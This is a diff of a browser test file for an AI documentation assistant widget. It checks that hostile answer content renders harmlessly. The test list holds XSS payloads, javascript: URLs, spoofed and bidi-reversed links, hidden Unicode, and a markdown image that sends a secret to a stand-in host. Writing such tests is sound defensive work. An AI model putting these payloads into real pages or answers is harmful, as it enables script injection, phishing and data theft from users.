@@ -13,12 +13,46 @@ import { slotsIn } from './slots.ts'
 
 const CALL = 'window.__ran=1'
 const TEXTS = [
-  `javascript:${CALL}`, `java\tscript:${CALL}`, `\u0001javascript:${CALL}`, 'data:text/html,<script>1</script>', 'blob:https://docs.test/1', '//evil.test/a', '\\\\evil.test\\a',
-  'https://docs.test@evil.test/', 'https://docs.test/login', 'https://docs.test\u2044login@evil.test/', 'https://d\u043ecs.test/', '/%E2%80%AEgpj.exe',
-  `<img src=x onerror=${CALL}>`, `"><script>${CALL}</script>`, '<style>body{display:none}</style>', '<iframe src="https://evil.test/"></iframe>', '<base href="https://evil.test/">',
-  '![a](https://evil.test/b.png?d=SECRET) [a](https://evil.test/)', `[a](javascript:${CALL}) [https://docs.test/](https://evil.test/)`, '$$\\href{javascript:0}{x}$$ $x\u202ey^2$',
-  '\u202etxt.exe\u202c \u2066a', 'hidden\u{e0041}\u{e0042}\u200b words', '\u001b[31mred\u001b[0m\u0007', 'a\0b', '\ud83d', '\udc00x', 'Z\u0351\u036b\u0343\u036a\u0302'.repeat(150), 'W'.repeat(3000),
-  '__proto__', 'constructor', 'toString', 'then', '$$typeof', '', ' ', '```js" onclick="x\nlet a\n```', '[^__proto__] [1] [999]\n\n[^__proto__]: n', '> '.repeat(3000), '['.repeat(3000), '`'.repeat(999),
+  `javascript:${CALL}`,
+  `java\tscript:${CALL}`,
+  `\u0001javascript:${CALL}`,
+  'data:text/html,<script>1</script>',
+  'blob:https://docs.test/1',
+  '//evil.test/a',
+  '\\\\evil.test\\a',
+  'https://docs.test@evil.test/',
+  'https://docs.test/login',
+  'https://docs.test\u2044login@evil.test/',
+  'https://d\u043ecs.test/',
+  '/%E2%80%AEgpj.exe',
+  `<img src=x onerror=${CALL}>`,
+  `"><script>${CALL}</script>`,
+  '<style>body{display:none}</style>',
+  '<iframe src="https://evil.test/"></iframe>',
+  '<base href="https://evil.test/">',
+  '![a](https://evil.test/b.png?d=SECRET) [a](https://evil.test/)',
+  `[a](javascript:${CALL}) [https://docs.test/](https://evil.test/)`,
+  '$$\\href{javascript:0}{x}$$ $x\u202ey^2$',
+  '\u202etxt.exe\u202c \u2066a',
+  'hidden\u{e0041}\u{e0042}\u200b words',
+  '\u001b[31mred\u001b[0m\u0007',
+  'a\0b',
+  '\ud83d',
+  '\udc00x',
+  'Z\u0351\u036b\u0343\u036a\u0302'.repeat(150),
+  'W'.repeat(3000),
+  '__proto__',
+  'constructor',
+  'toString',
+  'then',
+  '$$typeof',
+  '',
+  ' ',
+  '```js" onclick="x\nlet a\n```',
+  '[^__proto__] [1] [999]\n\n[^__proto__]: n',
+  '> '.repeat(3000),
+  '['.repeat(3000),
+  '`'.repeat(999),
 ].map((text) => ({ name: JSON.stringify(text.slice(0, 40)), text }))
 
 /** One answer that says the same by all its parts; `pieces` is the text as it streams. */
@@ -35,7 +69,15 @@ function answerOf(text: string, pieces: readonly string[]): DataStream {
     .tool({ id: 'a', name: text, args, result: { [text]: text } })
     .tool({ id: 'b', name: 'lookup', args, deltas: deltas.slice(0, 20), result: text })
     .tool({ id: text, name: 'lookup', args: { query: text }, result: [text] })
-    .tool({ id: 'c', name: 'search', args: { query: text }, result: halves(text).flatMap((half) => [{ path: half, metadata: { title: half } }, { url: 'https://other.test/', title: half }]) })
+    .tool({
+      id: 'c',
+      name: 'search',
+      args: { query: text },
+      result: halves(text).flatMap((half) => [
+        { path: half, metadata: { title: half } },
+        { url: 'https://other.test/', title: half },
+      ]),
+    })
     .source({ url: text, title: 'Looks fine' })
     .source({ url: 'https://evil.test/a', title: text, id: text })
     .source({ url: '/own', title: text })
@@ -63,7 +105,19 @@ afterEach(() => page.close())
 /** Asks, and waits until the answer, or what went wrong with it, is there. */
 async function ask(answer: DataStream, delayMs: number, look: () => void = () => {}): Promise<void> {
   const fetch = fakeAssistant(answer, { delayMs }) as unknown as typeof globalThis.fetch
-  page.render(<DocsAssistant baseUrl={ORIGIN} domain="acme" apiKey="svc_dsc_test" variant="inline" storage={null} siteUrl={`${ORIGIN}/`} fetch={fetch} navigate={() => {}} tools={{}} />)
+  page.render(
+    <DocsAssistant
+      baseUrl={ORIGIN}
+      domain="acme"
+      apiKey="svc_dsc_test"
+      variant="inline"
+      storage={null}
+      siteUrl={`${ORIGIN}/`}
+      fetch={fetch}
+      navigate={() => {}}
+      tools={{}}
+    />,
+  )
   const slots = slotsIn(page.box)
   const input = (await slots.wait('input')) as HTMLTextAreaElement
   const { HTMLTextAreaElement } = page.frame.contentWindow as Window & typeof globalThis
@@ -72,11 +126,19 @@ async function ask(answer: DataStream, delayMs: number, look: () => void = () =>
   await expect.poll(() => (slots.find('send') as HTMLButtonElement | null)?.disabled).toBe(false)
   slots.find('send')!.click()
   await expect
-    .poll(() => {
-      look()
-      for (const button of page.box.querySelectorAll<HTMLButtonElement>('[data-slot="message"] button[aria-expanded="false"]')) button.click()
-      return slots.all('problem').length + page.box.querySelectorAll('[data-role="assistant"][data-status="done"]').length
-    }, { timeout: 20_000, interval: 30 })
+    .poll(
+      () => {
+        look()
+        for (const button of page.box.querySelectorAll<HTMLButtonElement>(
+          '[data-slot="message"] button[aria-expanded="false"]',
+        ))
+          button.click()
+        return (
+          slots.all('problem').length + page.box.querySelectorAll('[data-role="assistant"][data-status="done"]').length
+        )
+      },
+      { timeout: 20_000, interval: 30 },
+    )
     .toBeGreaterThan(0)
 }
 
@@ -85,7 +147,8 @@ function use(): void {
   const view = page.frame.contentWindow as Window & typeof globalThis
   const stay = (event: Event) => event.preventDefault()
   page.frame.contentDocument!.addEventListener('click', stay)
-  for (const chip of page.box.querySelectorAll('.da-citation')) chip.dispatchEvent(new view.PointerEvent('pointerover', { bubbles: true }))
+  for (const chip of page.box.querySelectorAll('.da-citation'))
+    chip.dispatchEvent(new view.PointerEvent('pointerover', { bubbles: true }))
   for (const link of page.box.querySelectorAll<HTMLElement>('[data-slot="message"] a')) {
     link.focus()
     link.click()
@@ -112,7 +175,9 @@ test.each(TEXTS)('$name does no harm by any part of an answer', async ({ text })
 
 test.each(TEXTS)('$name does no harm by any part while it streams', async ({ text }) => {
   const size = Math.max(1, Math.ceil(text.length / 6))
-  const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, index) => text.slice(index * size, (index + 1) * size))
+  const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, index) =>
+    text.slice(index * size, (index + 1) * size),
+  )
   const seen = new Set<string>()
   await ask(answerOf(text, pieces).finish(), 12, () => {
     for (const fault of faults()) seen.add(fault)
@@ -146,7 +211,9 @@ test('a fault is seen by whichever part it comes', async () => {
   }
   add('text', 'script')
   add('tool', 'a', { href: 'javascript:0', textContent: 'x' })
-  add('source', 'a', { href: 'https://evil.test/' }).append(Object.assign(page.frame.contentDocument!.createElement('bdi'), { textContent: 'https://docs.test/a' }))
+  add('source', 'a', { href: 'https://evil.test/' }).append(
+    Object.assign(page.frame.contentDocument!.createElement('bdi'), { textContent: 'https://docs.test/a' }),
+  )
   add('reasoning', 'p', { id: 'root', textContent: '\u202ex' })
   expect(faults().sort()).toEqual([
     'a character that turns or hides text',
